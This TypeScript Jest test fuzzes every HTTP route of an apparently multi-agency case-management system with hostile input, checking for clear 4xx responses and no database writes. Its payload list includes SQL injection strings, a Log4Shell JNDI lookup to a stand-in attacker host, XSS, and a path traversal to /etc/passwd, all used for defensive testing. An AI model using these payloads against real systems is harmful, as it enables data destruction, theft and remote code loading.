import { afterAll, beforeAll, describe, expect, it, jest } from '@jest/globals';
import { AGENCIES, type Agency } from '@casenet/contracts';
import { devToken, FIXTURE_SCHOOL_CODES, FlowSteps, freeSystemPorts, reportFixture, Rng, RunningSystem } from '@casenet/testing';
import fc from 'fast-check';

jest.setTimeout(300_000);

interface Operation {
  parameters?: { name: string; in: 'path' | 'query'; schema?: { type?: string } }[];
  requestBody?: { content: Record<string, { schema: { $ref?: string } }> };
}
interface OpenApi {
  paths: Record<string, Record<string, Operation>>;
  components: { schemas: Record<string, { properties?: Record<string, unknown> }> };
}

const NASTY = [
  "'; DROP TABLE cases; --",
  '" OR 1=1 --',
  "1' UNION SELECT personal FROM cases --",
  '${jndi:ldap://attacker/x}',
  '<script>alert(1)</script>',
  '\u0000',
  '\uD800',
  '\u202Eevil',
  'ℂ𝔸𝕊𝔼 Ⅸ ﷽',
  '../../../../etc/passwd',
  'CR-' + 'A'.repeat(5000),
  '%00%0d%0a',
];
const hostileString = fc.oneof(
  fc.constantFrom(...NASTY),
  fc.string({ unit: 'binary', maxLength: 64 }),
  fc.string({ unit: 'grapheme', maxLength: 200 }),
  fc.integer({ min: 1000, max: 20_000 }).map((n) => 'Ω'.repeat(n)),
);
const hostileValue: fc.Arbitrary<unknown> = fc.letrec((tie) => ({
  value: fc.oneof(
    { depthSize: 'small' },
    hostileString,
    fc.integer(),
    fc.double({ noNaN: true }),
    fc.boolean(),
    fc.constant(null),
    fc.array(tie('value'), { maxLength: 3 }),
    fc.dictionary(hostileString, tie('value'), { maxKeys: 3 }),
  ),
})).value;

/** A body shaped after the route's schema (some of its fields, hostile values) plus stray fields. */
function bodyFor(schema: { properties?: Record<string, unknown> } | undefined): fc.Arbitrary<unknown> {
  const names = Object.keys(schema?.properties ?? {});
  const shaped = names.length > 0 ? fc.record(Object.fromEntries(names.map((n) => [n, hostileValue])), { requiredKeys: [] }) : fc.constant({});
  return fc.oneof(
    fc.tuple(shaped, fc.dictionary(hostileString, hostileValue, { maxKeys: 2 })).map(([a, b]) => ({ ...b, ...a })),
    hostileValue,
  );
}

/** Every byte percent-encoded, so lone surrogates and control characters reach the server as sent. */
function percentEncoded(text: string): string {
  return [...Buffer.from(text, 'utf8')].map((b) => `%${b.toString(16).padStart(2, '0')}`).join('');
}

/**
 * A 4xx that says why. Node's HTTP parser itself refuses oversized request lines and headers
 * (414, 431) before the application sees them: those are clear, though they carry no body.
 */
function isClearRejection(status: number, message: unknown): boolean {
  if (status === 414 || status === 431) return true;
  return status >= 400 && status < 500 && message !== undefined;
}

/**
 * Every HTTP route of every service, fed generated hostile input: missing, extra and wrong-typed
 * fields, huge and odd Unicode, SQL-like strings, malformed JSON, oversized bodies, bad tokens.
 * Only clear 4xx answers, never a 5xx, and nothing written.
 */
describe('hostile input on every HTTP route', () => {
  let system: RunningSystem;
  let seeded: string;
  const counts: string[] = [];

  beforeAll(async () => {
    system = await RunningSystem.start({ namespace: `t_hostile_http_${process.pid}`, ports: await freeSystemPorts(), dropDatabasesOnStop: true });
    // Some real data, so a stray write or a leaking query would have something to touch.
    const flow = new FlowSteps(system);
    const report = await flow.file(reportFixture(new Rng(3), { concerns: ['bullying'] }));
    await flow.caseAt(report.caseref, 'screening');
    // Until the status is back at the school, its inbox is still changing: wait, then snapshot.
    await flow.schoolSees(report.id, 'received');
    seeded = report.caseref;
  });

  it('refuses NUL characters with a 400 instead of failing in the database', async () => {
    const supervisor = system.client('municipality', ['supervisor']);
    const response = await supervisor.post<{ message: string[] }>(`/cases/${seeded}/assignment`, { assignee: 'caseworker\u0000x' });
    expect(response.status).toBe(400);
    expect(response.body.message).toEqual(['body.assignee: must not contain NUL characters']);
    expect((await supervisor.post(`/cases/${seeded}/assignment`, { assignee: 'caseworker-x' })).status).toBe(200);
  });

  afterAll(async () => {
    process.stdout.write(`hostile HTTP inputs per route:\n${counts.join('\n')}\n`);
    await system?.stop();
  });

  async function rowCounts(agency: Agency): Promise<Record<string, number>> {
    const tables = await system.query<{ name: string }>(agency, `SELECT tablename AS name FROM pg_tables WHERE schemaname = 'public'`);
    const result: Record<string, number> = {};
    // Reads of real cases are logged on purpose; everything else must stay as it was.
    for (const { name } of tables) if (name !== 'access_log') result[name] = await system.count(agency, `SELECT count(*)::int AS n FROM "${name}"`);
    return result;
  }

  it.each(AGENCIES)('%s answers every hostile request with a clear 4xx and writes nothing', async (agency) => {
    const before = await rowCounts(agency);
    // At schools, a supervisor of every school the fixtures file for: the hostile input must reach the handlers.
    const token = await devToken(agency, ['supervisor'], agency === 'schools' ? { schoolCodes: [...FIXTURE_SCHOOL_CODES] } : {});
    const base = system.services[agency].baseUrl;
    const spec = (await (await fetch(`${base}/openapi.json`)).json()) as OpenApi;
    const failures: string[] = [];
    const send = async (method: string, path: string, body: string | undefined, bearer: string | null) => {
      const response = await fetch(`${base}${path}`, {
        method,
        headers: { ...(bearer ? { authorization: `Bearer ${bearer}` } : {}), ...(body === undefined ? {} : { 'content-type': 'application/json' }) },
        body,
      });
      const text = await response.text();
      let message: unknown;
      try {
        message = (JSON.parse(text) as { message?: unknown }).message;
      } catch {
        message = undefined;
      }
      return { status: response.status, message };
    };

    for (const [template, methods] of Object.entries(spec.paths)) {
      for (const [method, operation] of Object.entries(methods)) {
        if (template === '/health') continue;
        const params = operation.parameters ?? [];
        const ref = Object.values(operation.requestBody?.content ?? {})[0]?.schema.$ref;
        const schema = ref ? spec.components.schemas[ref.split('/').pop() as string] : undefined;
        const request = fc.record({
          path: fc.record(Object.fromEntries(params.filter((p) => p.in === 'path').map((p) => [p.name, hostileString]))),
          query: fc.dictionary(fc.constantFrom(...params.filter((p) => p.in === 'query').map((p) => p.name), 'stray'), hostileString, { maxKeys: 3 }),
          body: method === 'post' ? bodyFor(schema).map((b) => JSON.stringify(b)) : fc.constant(undefined),
          token: fc.oneof({ weight: 9, arbitrary: fc.constant<string | null>(token) }, { weight: 1, arbitrary: fc.oneof(fc.constant(null), fc.string({ maxLength: 300 })) }),
        });
        let tried = 0;
        await fc.assert(
          fc.asyncProperty(request, async (input) => {
            tried += 1;
            const path = template.replace(/\{(\w+)\}/g, (_, name: string) => percentEncoded(String(input.path[name] ?? 'x')));
            const query = new URLSearchParams(input.query as Record<string, string>).toString();
            const { status, message } = await send(method.toUpperCase(), `${path}${query ? `?${query}` : ''}`, input.body, input.token);
            const clear = isClearRejection(status, message);
            const acceptableRead = method === 'get' && status === 200;
            if (!clear && !acceptableRead) failures.push(`${method.toUpperCase()} ${template} → ${status} ${JSON.stringify(message)?.slice(0, 120)} for ${JSON.stringify(input).slice(0, 300)}`);
          }),
          { numRuns: 30, seed: 2026 },
        );
        // Fixed cases beyond the generator: malformed JSON and a body over the size limit.
        if (method === 'post') {
          const path = template.replace(/\{(\w+)\}/g, 'x');
          for (const body of ['{"pupil": {"firstName": "Giu', '\u0000\u0001', JSON.stringify({ notes: 'x'.repeat(2_000_000) })]) {
            tried += 1;
            const { status, message } = await send('POST', path, body, token);
            if (!isClearRejection(status, message)) failures.push(`POST ${template} → ${status} for a ${body.length}-byte raw body`);
          }
        }
        counts.push(`  ${agency.padEnd(12)} ${method.toUpperCase().padEnd(5)} ${template.padEnd(55)} ${tried}`);
      }
    }
    expect(failures.slice(0, 10).map((f) => f.slice(0, 300))).toEqual([]);
    expect(await rowCounts(agency)).toEqual(before); // no half-written change anywhere
  });
});
